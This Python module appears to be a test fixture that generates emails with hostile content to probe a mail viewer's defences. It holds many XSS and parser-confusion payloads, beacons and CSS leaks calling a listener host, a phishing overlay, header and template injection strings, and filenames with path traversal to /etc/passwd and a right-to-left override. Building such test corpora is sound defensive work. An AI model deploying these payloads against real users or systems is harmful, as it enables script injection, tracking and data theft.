"""Mails that want something of whoever looks at them: to run, to load, to hide, to lead away. Each is one trick.

``EVIL`` stands for what a script would do: leave a mark in its window and its parents', and ask the listener for
something. ``{t}`` is the listener's address.
"""

EVIL = "try{top.pwned=1}catch(e){};window.pwned=1;document.title='pwned';fetch('http://{t}/f')"

HTML = {
    "script": "<script>{evil}</script>",
    "script from elsewhere": "<script src='http://{t}/s.js'></script>",
    "module from elsewhere": "<script type=module>import 'http://{t}/m.js'</script>",
    "broken script tag": "<scr<script>ipt>{evil}</scr</script>ipt>",
    "script in upper case with a slash": "<SCRIPT/x>{evil}</SCRIPT>",
    "script closed inside an attribute": '<p title="</p><script>{evil}</script>">x</p>',
    "img onerror": '<img src=x onerror="{evil}">',
    "img without space": "<img/src='x'/onerror={evil}>",
    "svg onload": '<svg onload="{evil}"></svg>',
    "svg script": "<svg><script>{evil}</script></svg>",
    "svg animate": "<svg><a><animate attributeName=href values='javascript:{evil}'/><text y=20>x</text></a></svg>",
    "svg use": "<svg><use href='http://{t}/u.svg#x'/></svg>",
    "svg image": "<svg><image href='http://{t}/i.png'/></svg>",
    "svg foreignObject": "<svg><foreignObject><iframe src='http://{t}/fo'></iframe></foreignObject></svg>",
    "math link": "<math><mtext href='javascript:{evil}'>x</mtext></math>",
    "namespace confusion": '<math><mtext><table><mglyph><style><!--</style><img src=x onerror="{evil}">',
    "noscript confusion": '<noscript><p title="</noscript><img src=x onerror={evil}>"></noscript>',
    "template": '<template><img src=x onerror="{evil}"></template>',
    "comment confusion": '<!--><img src=x onerror="{evil}">-->',
    "conditional comment": "<!--[if gte mso 9]><img src='http://{t}/mso'><![endif]-->",
    "body onload": '<body onload="{evil}" onpageshow="{evil}">x',
    "details ontoggle": '<details open ontoggle="{evil}">x</details>',
    "autofocus onfocus": '<input autofocus onfocus="{evil}"><select autofocus onfocus="{evil}">',
    "marquee": '<marquee onstart="{evil}">x</marquee>',
    "animation event": "<style>@keyframes a{{}}</style><p style='animation:a 1s' onanimationstart=\"{evil}\">x</p>",
    "javascript link": "<a href='javascript:{evil}' autofocus>x</a>",
    "entity in a link": "<a href='jav&#x09;ascript:{evil}'>x</a>",
    "data link": "<a href='data:text/html,<script>{evil}</script>'>x</a>",
    "ping": "<a href='http://{t}/a' ping='http://{t}/p'>x</a>",
    "meta refresh": "<meta http-equiv=refresh content='0;url=http://{t}/r'>",
    "meta refresh to a script": "<meta http-equiv=refresh content='0;url=javascript:{evil}'>",
    "meta policy": "<meta http-equiv=Content-Security-Policy content=\"default-src *; script-src 'unsafe-inline'\">",
    "base": "<base href='http://{t}/'><img src='b.png'>",
    "base target": "<base target=_top><a href='http://{t}/bt'>x</a>",
    "form": "<form action='http://{t}/form' id=f><input name=p></form><button form=f formaction='http://{t}/b'>Sign in</button>",
    "form to the console": "<form action='/sign-out' method=post><button>x</button></form>",
    "iframe": "<iframe src='http://{t}/if'></iframe>",
    "iframe srcdoc": '<iframe srcdoc="<script>{evil}</script>"></iframe>',
    "iframe of the console": "<iframe src='/holds'></iframe>",
    "object": "<object data='http://{t}/o'></object>",
    "embed": "<embed src='http://{t}/e'>",
    "applet and param": "<applet code=x archive='http://{t}/a.jar'></applet>",
    "picture": "<img src='http://{t}/pixel.gif' width=1 height=1>",
    "picture in several sizes": "<img srcset='http://{t}/1x 1x, http://{t}/2x 2x'><picture><source srcset='http://{t}/p'><img></picture>",
    "lazy picture": "<img loading=lazy src='http://{t}/lazy'>",
    "data picture": '<img src=\'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="{evil}"/>\'>',
    "video and audio": "<video poster='http://{t}/v' src='http://{t}/v.mp4' autoplay></video><audio src='http://{t}/a' autoplay></audio>",
    "track": "<video><track default src='http://{t}/t.vtt'></video>",
    "style sheet": "<link rel=stylesheet href='http://{t}/c.css'>",
    "preload and prefetch": "<link rel=preload as=image href='http://{t}/pl'><link rel=prefetch href='http://{t}/pf'>",
    "preconnect": "<link rel=preconnect href='http://{t}/'><link rel=dns-prefetch href='http://{t}/'>",
    "icon and manifest": "<link rel=icon href='http://{t}/i'><link rel=manifest href='http://{t}/m'>",
    "import in a style": "<style>@import 'http://{t}/i.css';</style>",
    "background in a style": "<style>body{{background:url(http://{t}/bg)}}</style>",
    "background in an attribute": "<p style='background:url(http://{t}/bga)'>x</p><table background='http://{t}/tb'><tr><td>x</table>",
    "font": "<style>@font-face{{font-family:x;src:url(http://{t}/f)}}p{{font-family:x}}</style><p>x</p>",
    "cursor and content": "<style>p{{cursor:url(http://{t}/cu),auto}}p::after{{content:url(http://{t}/co)}}</style><p>x</p>",
    "attribute leak": "<style>input[value^='a']{{background:url(http://{t}/leak)}}</style><input value=abc>",
    "expression": "<p style='width:expression({evil});behavior:url(http://{t}/b);-moz-binding:url(http://{t}/x)'>x</p>",
    "overlay": "<div style='position:fixed;inset:0;z-index:9999;background:#fff'><a href='http://{t}/ov'>Your session has ended</a></div>",
    "dangling markup": "<img src='http://{t}/d?",
    "dangling textarea": "<form action='http://{t}/dt'><textarea name=x>",
    "plaintext": "<plaintext><script>{evil}</script>",
    "xml": "<?xml-stylesheet href='http://{t}/xs'?><xml id=x><script>{evil}</script></xml>",
    "UTF-7": "+ADw-script+AD4-{evil}+ADw-/script+AD4-",
    "clobbering": "<form name=body><input name=classList></form><a id=main name=querySelector href=x>x</a><p id=help>",
    "target of a jump": "<p id='at-1' data-mark>x</p><div data-keys=list><p data-row><a class=row href='http://{t}/j'>x</a></div>",
}

_TEXT = "<script>{evil}</script><img src='http://{t}/x' onerror=\"{evil}\">\"'><svg onload={evil}>"

HEADERS = {
    "subject": "Subject: " + _TEXT,
    "subject in an encoded word": "Subject: =?utf-8?q?=3Cscript=3Etop=2Epwned=3D1=3C/script=3E=3Cimg_src=3Dhttp://{t}/s=3E?=",
    "subject with an override": "Subject: =?utf-8?b?4oCuZGVzYWVsZXI=?=\nX-A: 1",
    "display name": 'Subject: x\nReply-To: "' + _TEXT.replace('"', "'") + '" <a@b.example>',
    "template words": "Subject: {{{{ 7*7 }}}} {{% for x in visit %}} ${{7*7}} #{{7*7}}",
    "message id": 'Subject: x\nMessage-ID: <"><script>{evil}</script>@x>',
    "odd field": "Subject: x\nX-<script>{evil}</script>: 1\nContent-Security-Policy: default-src *\nSet-Cookie: a=b\nRefresh: 0;url=http://{t}/h",
    "language and list": "Subject: x\nList-Unsubscribe: <http://{t}/lu>\nDisposition-Notification-To: <a@b.example>\nFace: x",
}

NAMES = {
    "path in a name": "../../../../etc/passwd",
    "absolute path": "/etc/shadow",
    "windows path": "..\\\\..\\\\windows\\\\win.ini",
    "script in a name": "<script>{evil}</script>.pdf",
    "quote in a name": "a' onmouseover='{evil}' x='.pdf",
    "override in a name": "report\u202efdp.exe",
    "nul and controls": "a\x1b[31mb.txt",
    "address as a name": "http://{t}/name.pdf",
}


def mails(tracker):
    """Yield the name of each trick and its mail."""
    evil = EVIL.replace("{t}", tracker)

    def filled(text):
        return text.replace("{evil}", evil.replace('"', "&quot;")).replace("{t}", tracker)

    for name, html in HTML.items():
        yield (
            f"html: {name}",
            _mail(
                "Subject: x", "text/html; charset=utf-8", filled(html.replace("{{", "{").replace("}}", "}"))
            ),
        )
    for name, html in HTML.items():
        if name in {"script", "img onerror", "svg onload", "meta refresh", "picture", "UTF-7"}:
            text = filled(html.replace("{{", "{").replace("}}", "}"))
            yield f"text: {name}", _mail("Subject: x", "text/plain; charset=utf-8", text)
    yield "html in UTF-7", _mail("Subject: x", "text/html; charset=utf-7", filled(HTML["UTF-7"]))
    for name, header in HEADERS.items():
        text = filled(header.replace("{{", "{").replace("}}", "}"))
        yield f"header: {name}", _mail(text, "text/plain; charset=utf-8", "See you on Friday.")
    for name, file in NAMES.items():
        yield f"file: {name}", _with_file(filled(file))


def _mail(header, content, body):
    lines = ["From: Amir Khan <amir.khan@force.example>", "To: nadia@home.example", header]
    lines += [
        "MIME-Version: 1.0",
        f"Content-Type: {content}",
        "Content-Transfer-Encoding: 8bit",
        "",
        body,
        "",
    ]
    return "\n".join(lines).replace("\n", "\r\n").encode()


def _with_file(name):
    quoted = name.replace('"', "'")
    body = (
        "--b\nContent-Type: text/plain\n\nSee the file.\n"
        f'--b\nContent-Type: text/html; name="{quoted}"\nContent-Disposition: attachment; filename="{quoted}"\n\n'
        "<p>You looked amazingly hot.</p><script>top.pwned=1</script>\n--b--\n"
    )
    return _mail("Subject: x", "multipart/mixed; boundary=b", body)
